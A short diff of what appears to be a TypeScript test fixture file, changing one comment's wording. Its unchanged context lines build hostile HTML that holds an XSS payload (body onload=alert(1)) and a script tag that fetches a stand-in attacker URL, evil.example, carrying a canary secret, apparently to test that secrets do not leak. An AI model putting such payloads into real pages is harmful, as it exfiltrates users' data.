@@ -10,7 +10,7 @@ export interface HostilePicture {
   bytes: Buffer
 }
 
-/** In every file that carries something; in nothing that the house gives out. */
+/** In every file that carries something; in nothing that the instance gives out. */
 export const secret = 'SECRET-OF-THE-FILE'
 const script = `<script>fetch('//evil.example/${secret}')</script>`
 const html = `<!doctype html><html><body onload=alert(1)>${script}</body></html>`
